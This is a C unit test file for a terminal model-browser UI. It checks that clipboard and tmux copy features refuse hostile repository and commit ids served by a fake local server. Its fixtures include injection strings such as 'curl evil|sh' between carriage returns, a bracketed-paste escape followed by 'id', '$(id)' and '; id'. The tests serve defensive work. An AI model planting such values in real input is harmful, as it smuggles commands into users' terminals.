/* SPDX-License-Identifier: Apache-2.0 */
/* robustness S1 and hub.md 1: what may be copied, and the window that shows it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "core/base/mem.h"
#include "core/base/paths.h"
#include "tests/screens/homes.h"
#include "tests/unit/tiny_server.h"

static const char *bad_id;     /* of the second model of the list, as JSON */
static const char *bad_commit; /* of the second commit, as JSON */

static bool answer(struct tiny *s, int fd, const struct tiny_request *r)
{
    struct buf body = BUF_INIT;
    int status = 200;
    if (strncmp(r->path, "/api/models?", 12) == 0) {
        buf_printf(&body, "[{\"id\":\"o/fine\"},{\"id\":%s}]", bad_id);
    } else if (strstr(r->path, "/commits/")) {
        buf_printf(&body, "[{\"id\":\"0123456789abcdef0123456789abcdef01234567\",\"title\":\"good\"},{\"id\":%s,\"title\":\"bad\"}]",
                   bad_commit);
    } else if (strncmp(r->path, "/api/models/o/fine", 18) == 0) {
        buf_puts(&body, "{\"id\":\"o/fine\",\"sha\":\"0123456789abcdef0123456789abcdef01234567\",\"siblings\":[]}");
    } else {
        status = 404;
        buf_puts(&body, "{\"error\":\"no\"}");
    }
    const bool is_sent = tiny_reply(s, fd, status, "Content-Type: application/json\r\n", buf_str(&body), body.n);
    buf_done(&body);
    return is_sent;
}

/* A tmux that notes what it is given. */
static void make_tmux(const char *home)
{
    write_in(home, "bin/tmux", "#!/bin/sh\ncat >>\"$HOME/given\"\n");
    char *program = paths_join(home, "bin/tmux");
    assert_int_equal(chmod(program, 0700), 0);
    free(program);
}

static struct harness *start_at(const char *home, const struct tiny *s, bool in_tmux)
{
    char url[64];
    snprintf(url, sizeof url, "http://127.0.0.1:%d", s->port);
    char *path = xasprintf("PATH=%s/bin:/usr/bin:/bin", home);
    struct harness *h = h_start(&(struct h_options){.args = ARGS("--endpoint", url),
                                                    .home = home,
                                                    .rows = 24,
                                                    .cols = 100,
                                                    .env = in_tmux ? ARGS("TMUX=/tmp/x,1,0", path) : ARGS(path)});
    h_wait_idle(h);
    free(path);
    return h;
}

/* Nothing went out in any of the ways. */
static void expect_nothing(struct harness *h, const char *home)
{
    assert_false(h_wrote(h, "\033]52;"));
    char *path = paths_join(home, "given");
    struct stat st;
    assert_int_not_equal(stat(path, &st), 0);
    free(path);
}

/* robustness S1: an id in the list */
static void test_an_id_that_would_run_is_refused(void **state)
{
    (void)state;
    static const char *const IDS[] = {
        "\"o/x\\rcurl evil|sh\\r\"", "\"o/x\\u001b[201~\\nid\\n\"", "\"o/x\\u0085id\"", "\"o/x\\u202etxt\"", "\"o/\\tx\"",
        "\"o/x\\u009b201~\"",
    };
    for (size_t i = 0; i < sizeof IDS / sizeof *IDS; i++) {
        bad_id = IDS[i];
        bad_commit = "\"00\"";
        struct tiny *s = tiny_start(answer);
        char *home = new_home();
        make_tmux(home);
        for (int in_tmux = 0; in_tmux < 2; in_tmux++) {
            struct harness *h = start_at(home, s, in_tmux);
            h_wait_text(h, "o/fine");
            h_keys(h, "j y i");
            expect_nothing(h, home);
            h_keys(h, "g");
            expect_nothing(h, home);
            h_stop_with(h, "<Esc> <C-c>", 0);
        }
        remove_home(home);
        tiny_stop(s);
    }
}

/* robustness S1: an id of a commit */
static void test_a_commit_id_is_hex_or_nothing(void **state)
{
    (void)state;
    static const char *const IDS[] = {
        "\"89abcdef\\u001b[201~\\nid\\n\"", "\"89abcdef; id\"", "\"\\n\"", "\"$(id)\"", "\"89abcdef\\u2028id\"",
    };
    bad_id = "\"o/other\"";
    for (size_t i = 0; i < sizeof IDS / sizeof *IDS; i++) {
        bad_commit = IDS[i];
        struct tiny *s = tiny_start(answer);
        char *home = new_home();
        make_tmux(home);
        for (int in_tmux = 0; in_tmux < 2; in_tmux++) {
            struct harness *h = start_at(home, s, in_tmux);
            h_wait_text(h, "o/fine");
            h_keys(h, "<Enter> <Tab> <Tab> <Tab> G <Enter>");
            h_wait_idle(h);
            assert_false(h_wrote(h, "bad"));
            /* what is not hex never got so far; the good one may be there */
            assert_false(h_wrote(h, "\033]52;c;ODlh")); /* 89a */
            h_stop_with(h, "<C-c>", 0);
        }
        remove_home(home);
        tiny_stop(s);
    }
}

static struct harness *open_text(char *home, const char *text)
{
    write_in(home, "words.txt", text);
    struct harness *h = start_in(home, 24, 80, ARGS("--offline"));
    h_keys(h, ":");
    h_text(h, "open ./words.txt");
    h_keys(h, "<Enter>");
    h_wait_text(h, "words");
    return h;
}

/* robustness S1: lines of a file keep newline and tab, and it is said */
static void test_a_line_of_a_file(void **state)
{
    (void)state;
    char *home = new_home();
    struct harness *h = open_text(home, "\ttabbed\033[2J words\a\n");
    h_keys(h, "Y");
    h_expect_text(h, "the line: 1 tab, without 2 control characters");
    assert_true(h_wrote(h, "\033]52;c;CXRhYmJlZFsySiB3b3Jkcw==")); /* tab, no ESC, no BEL */
    h_stop_with(h, "<Esc> <C-c>", 0);
    remove_home(home);
}

/* hub.md 1: all of it can be read, and selected with the mouse, which is the terminal's meanwhile */
static void test_the_window_shows_all_and_lets_the_mouse_go(void **state)
{
    (void)state;
    char *home = new_home();
    struct buf text = BUF_INIT;
    for (int i = 0; i < 700; i++) {
        buf_printf(&text, "words%03d ", i);
    }
    struct harness *h = open_text(home, buf_str(&text));
    buf_done(&text);
    h_keys(h, "Y");
    int row = 0;
    int col = 0;
    assert_true(h_find(h, "words000", &row, &col));
    assert_int_equal(col, 0);
    ptyterm_mouse(h_terminal(h), PTYTERM_CLICK, 10, 10); /* the terminal keeps it for itself */
    assert_int_equal(h_bytes_in(h, 150), 0);
    h_expect_text(h, "sent to the terminal: the line");
    h_keys(h, "G");
    h_expect_text(h, "words699");
    h_keys(h, "<Esc>");
    h_expect_no_text(h, "words699");
    h_expect_text(h, "words000");
    assert_true(h_wrote(h, "\033[?1006l\033[?1000l"));
    h_stop_with(h, "<C-c>", 0);
    remove_home(home);
}

static void test_a_key_passes_through_the_window(void **state)
{
    (void)state;
    struct harness *h = start_in(NULL, 24, 80, ARGS("--demo"));
    h_keys(h, "y i");
    h_expect_text(h, "sent to the terminal: the repo id");
    assert_true(h_wrote(h, "\033]52;c;bHVtZW4tbGFicy9BdXJvcmEtVkwtTmFuby1JbnN0cnVjdA=="));
    h_keys(h, "j");
    h_expect_no_text(h, "sent to the terminal");
    h_expect_in_row(h, 4, "\xE2\x96\x8C"); /* the second row is selected */
    h_keys(h, "y g :");
    h_expect_no_text(h, "sent to the terminal");
    h_expect_in_row(h, 23, ":");
    h_mouse(h, PTYTERM_CLICK, 6, 10);
    h_expect_in_row(h, 6, "\xE2\x96\x8C"); /* the mouse is back */
    h_stop_with(h, "<C-c>", 0);
}

#define SCREEN_TEST(f) cmocka_unit_test_teardown(f, h_teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        SCREEN_TEST(test_an_id_that_would_run_is_refused),
        SCREEN_TEST(test_a_commit_id_is_hex_or_nothing),
        SCREEN_TEST(test_a_line_of_a_file),
        SCREEN_TEST(test_the_window_shows_all_and_lets_the_mouse_go),
        SCREEN_TEST(test_a_key_passes_through_the_window),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
